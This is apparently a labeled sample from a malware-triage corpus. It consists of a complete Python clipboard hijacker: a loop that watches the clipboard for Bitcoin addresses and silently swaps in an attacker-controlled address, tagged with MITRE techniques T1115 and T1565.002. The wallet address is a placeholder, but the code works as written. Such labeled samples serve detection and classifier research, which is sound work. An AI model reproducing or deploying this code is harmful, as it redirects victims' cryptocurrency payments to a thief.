# label: malicious family=spy techniques=T1115,T1565.002 lines=4,6,8
import re, time, pyperclip
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
MINE = "bc1qfakefakefakefakepytriagecorpus0000000"
while True:
    c = pyperclip.paste()
    if BTC.match(c) and c != MINE:
        pyperclip.copy(MINE)
    time.sleep(0.5)
